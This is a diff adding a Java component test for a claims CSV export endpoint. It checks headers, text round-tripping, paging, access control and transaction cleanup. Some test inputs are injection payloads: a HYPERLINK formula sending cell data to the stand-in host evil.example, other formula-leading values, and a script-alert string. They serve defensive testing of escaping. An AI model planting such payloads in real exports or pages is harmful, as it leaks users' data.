@@ -1,0 +1,215 @@
+package org.cpor.intake.claim;
+
+import static java.nio.charset.StandardCharsets.US_ASCII;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+import static org.cpor.intake.Claiming.as;
+import static org.cpor.intake.Claiming.claim;
+import static org.cpor.intake.Claiming.file;
+import static org.cpor.intake.Claiming.newPartner;
+import static org.cpor.intake.Claiming.withRole;
+import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.matchesRegex;
+
+import com.fasterxml.jackson.databind.MappingIterator;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.fasterxml.jackson.dataformat.csv.CsvMapper;
+import com.fasterxml.jackson.dataformat.csv.CsvSchema;
+import io.quarkus.test.common.WithTestResource;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import io.restassured.specification.RequestSpecification;
+import jakarta.inject.Inject;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.Socket;
+import java.net.URI;
+import java.sql.Connection;
+import java.sql.PreparedStatement;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import javax.sql.DataSource;
+import org.cpor.stack.testing.StackTestResource;
+import org.cpor.stack.testing.Tokens;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+@QuarkusTest
+@WithTestResource(StackTestResource.class)
+class ExportingClaimsComponentTest {
+
+  @TestHTTPResource("/claims/export")
+  URI export;
+
+  @Inject DataSource database;
+
+  private final String partner = newPartner();
+  private final String domain = "e" + UUID.randomUUID() + ".example";
+
+  @Test
+  void anExportIsATableToSaveWithAHeaderAndARowForEachClaim() throws IOException {
+    UUID claimId = file(partner, claim().put("note", "plain"));
+
+    Response answer = as(partner).get("/claims/export");
+
+    answer
+        .then()
+        .statusCode(200)
+        .header("Content-Type", matchesRegex("(?i)text/csv; ?charset=utf-8"))
+        .header("Content-Disposition", equalTo("attachment; filename=\"claims.csv\""))
+        .header("Cache-Control", equalTo("private, no-store"))
+        .header("X-Content-Type-Options", equalTo("nosniff"));
+    assertThat(answer.asString())
+        .startsWith("claimId,partnerId,mpnId,tenantId,domain,solutionArea,")
+        .endsWith(",hu,plain\r\n");
+    assertThat(rows(answer))
+        .singleElement()
+        .satisfies(row -> {
+          assertThat(row).containsEntry("claimId", claimId.toString());
+          assertThat(row).containsEntry("status", "SUBMITTED").containsEntry("reviewDueAt", "");
+        });
+  }
+
+  @Test
+  void anExportOfNothingIsAHeader() {
+    assertThat(as(partner).get("/claims/export").asString())
+        .startsWith("claimId,")
+        .endsWith(",note\r\n")
+        .hasLineCount(1);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")"
+      })
+  void noCellIsAFormula(String note) throws IOException {
+    ObjectNode claim = claim().put("note", note).put("subscriptionId", "=2");
+    claim.putObject("customerContact").put("name", "@name").put("email", "+a@b.example");
+    file(partner, claim);
+
+    assertThat(rows(as(partner).get("/claims/export")))
+        .singleElement()
+        .satisfies(row -> {
+          assertThat(row).containsEntry("note", "'" + note);
+          assertThat(row).containsEntry("subscriptionId", "'=2");
+          assertThat(row).containsEntry("customerContactName", "'@name");
+          assertThat(row).containsEntry("customerContactEmail", "'+a@b.example");
+        });
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "😀👩‍👩‍👧",
+        "שלום עולם‏",
+        "<script>alert(1)</script>",
+        "a,b;\"c\"\r\nd",
+        "\"",
+        " spaces "
+      })
+  void anyTextComesBackAsItWasSent(String note) throws IOException {
+    file(partner, claim().put("note", note));
+
+    assertThat(rows(as(partner).get("/claims/export")))
+        .singleElement()
+        .satisfies(row -> assertThat(row).containsEntry("note", note));
+    as(partner).get("/claims").then().body("items[0].note", equalTo(note));
+  }
+
+  @Test
+  void anExportOfManyPagesHasWhatTheListHasInItsOrder() throws Exception {
+    StoredClaims.add(database, partner, domain, "note", 2_345);
+
+    for (String query :
+        List.of("", "?sort=filedAt", "?status=UNDER_REVIEW&sort=reviewDueAt", "?competing=true")) {
+      List<Map<String, String>> rows = rows(as(partner).get("/claims/export" + query));
+      List<Map<String, String>> asReviewer =
+          rows(withRole("reviewer").queryParam("q", domain).get("/claims/export" + query));
+
+      assertThat(asReviewer).isEqualTo(rows);
+      assertThat(rows.stream().map(row -> row.get("claimId"))).doesNotHaveDuplicates();
+      List<String> first = as(partner).get("/claims" + query).path("items.claimId");
+      assertThat(rows.stream().map(row -> row.get("claimId")).limit(50)).isEqualTo(first);
+    }
+    assertThat(rows(as(partner).get("/claims/export"))).hasSize(2_345);
+  }
+
+  @Test
+  void anExportIsRefusedAsAListIs() {
+    as(newPartner()).get("/claims/export?partnerId=" + partner).then().statusCode(200);
+    as(partner)
+        .get("/claims/export?sort=status")
+        .then()
+        .statusCode(400)
+        .contentType("application/problem+json");
+    withRole("directory-feed").get("/claims/export").then().statusCode(403);
+    RequestSpecification stranger = io.restassured.RestAssured.given();
+    stranger.get("/claims/export").then().statusCode(401);
+  }
+
+  @Test
+  void aClientThatStopsReadingHoldsNoTransaction() throws Exception {
+    StoredClaims.add(database, partner, domain, "x".repeat(10_000), 3_000);
+    try (Socket client = new Socket()) {
+      client.setReceiveBufferSize(4_096);
+      client.connect(
+          new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), export.getPort()));
+      client
+          .getOutputStream()
+          .write(
+              "GET %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n"
+                  .formatted(export.getPath(), Tokens.forPartner(partner))
+                  .getBytes(US_ASCII));
+      assertThat(new String(client.getInputStream().readNBytes(12), UTF_8))
+          .isEqualTo("HTTP/1.1 200");
+
+      await()
+          .during(Duration.ofSeconds(2))
+          .atMost(Duration.ofSeconds(20))
+          .until(() -> transactionsThatStand() == 0);
+
+      as(partner).get("/claims").then().statusCode(200);
+    }
+  }
+
+  /** Transactions of this service's database that wait for their client. */
+  private int transactionsThatStand() throws SQLException {
+    try (Connection connection = database.getConnection();
+        PreparedStatement count =
+            connection.prepareStatement(
+                """
+                select count(*) from pg_stat_activity
+                 where datname = current_database() and state like 'idle in transaction%'
+                   and state_change < clock_timestamp() - interval '1 second'
+                """);
+        ResultSet row = count.executeQuery()) {
+      row.next();
+      return row.getInt(1);
+    }
+  }
+
+  private static List<Map<String, String>> rows(Response answer) throws IOException {
+    try (MappingIterator<Map<String, String>> rows =
+        new CsvMapper()
+            .readerForMapOf(String.class)
+            .with(CsvSchema.emptySchema().withHeader())
+            .readValues(new String(answer.asByteArray(), UTF_8))) {
+      return rows.readAll();
+    }
+  }
+}
